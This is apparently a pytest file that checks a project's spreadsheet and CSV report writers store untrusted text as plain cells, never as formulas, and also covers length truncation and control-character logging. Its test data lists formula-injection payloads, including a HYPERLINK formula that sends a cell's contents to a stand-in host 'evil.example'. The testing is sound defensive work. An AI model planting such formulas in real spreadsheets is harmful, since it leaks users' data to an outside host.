"""Sheets and CSV files we write never hold a formula: untrusted text is a text cell, read back from the saved
file as the same string."""
import csv
import re
import zipfile

from openpyxl import load_workbook

from flare_exp.cells import csv_text
from flare_exp.reports.sheets import write_scored_sheet
from flare_exp.reports.sheets import write_sheet

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=WEBSERVICE(\"http://x\")", "+1+1", "-2+3",
           "@SUM(A1:A2)"]


def _row(i, text):
    return {"id": f"id{i}", "image_name": text, "question": text, "answer": text, "prediction": text,
            "dataset": "chestdr", "task_type": "report_generation"}


def _assert_text_only(path):
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element in the saved file
    values = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
    for text in HOSTILE:
        assert values.count(text) >= 4, text  # question, answer, prediction and image name, unchanged


def test_predictions_and_scored_sheets_hold_no_formula(tmp_path):
    rows = [_row(i, t) for i, t in enumerate(HOSTILE)]
    write_sheet(tmp_path / "predictions.xlsx", rows, "=label")
    _assert_text_only(tmp_path / "predictions.xlsx")
    assert load_workbook(tmp_path / "predictions.xlsx").active["D1"].value == "=label"
    write_scored_sheet(tmp_path / "scored.xlsx", rows, "run", {})
    _assert_text_only(tmp_path / "scored.xlsx")


def test_csv_cells_never_start_a_formula(tmp_path):
    path = tmp_path / "sweep.csv"
    path.write_text(csv_text(["job", "reward.x.weights.y", "error"],
                             [["0", "-0.2", HOSTILE[0]], ["1", "-1e-3", "@cmd"], ["2", 0.5, "ok"]]))
    rows = list(csv.reader(path.open()))
    assert rows[1] == ["0", "-0.2", "'" + HOSTILE[0]] and rows[2] == ["1", "-1e-3", "'@cmd"]
    assert rows[3] == ["2", "0.5", "ok"]
    assert not any(re.match(r"[=+@\t\r]", cell) or re.match(r"-(?![\d.])", cell) for row in rows for cell in row)


def test_a_text_longer_than_a_cell_holds_is_cut_with_a_warning_naming_its_row(tmp_path, caplog):
    """A worksheet cell holds 32,767 characters: a longer text (a runaway generation) is cut there, and the log
    names the row; the others stay whole."""
    import logging

    caplog.set_level(logging.WARNING, logger="flare_exp")
    rows = [{**_row(0, "short"), "prediction": "word " * 10000}, _row(1, "fine")]
    write_sheet(tmp_path / "predictions.xlsx", rows, "run")
    cells = [[c.value for c in row] for row in load_workbook(tmp_path / "predictions.xlsx").active.iter_rows()]
    assert len(cells[1][3]) == 32767 and cells[1][3] == ("word " * 10000)[:32767] and cells[2][3] == "fine"
    assert "1 row(s) with a text longer than a worksheet cell's 32767 characters, cut there" in caplog.text
    assert "(rows: id0)" in caplog.text


def test_a_row_with_control_characters_is_kept_and_the_log_says_only_they_are_left_out(tmp_path, caplog):
    """The log said such rows were "dropped there": every row is in the sheet, its text without the characters
    a worksheet cannot store."""
    import logging

    caplog.set_level(logging.INFO, logger="flare_exp")
    rows = [_row(0, "a bell\x07 rang"), _row(1, "fine")]
    write_sheet(tmp_path / "predictions.xlsx", rows, "run")
    cells = [[c.value for c in row] for row in load_workbook(tmp_path / "predictions.xlsx").active.iter_rows()]
    ids = cells[0].index("id")
    assert [r[ids] for r in cells[1:]] == ["id0", "id1"] and cells[1][3] == "a bell rang"
    assert "1 row(s) with control characters a worksheet cannot store, kept there without those characters " \
           "(rows: id0)" in caplog.text
    assert "dropped" not in caplog.text
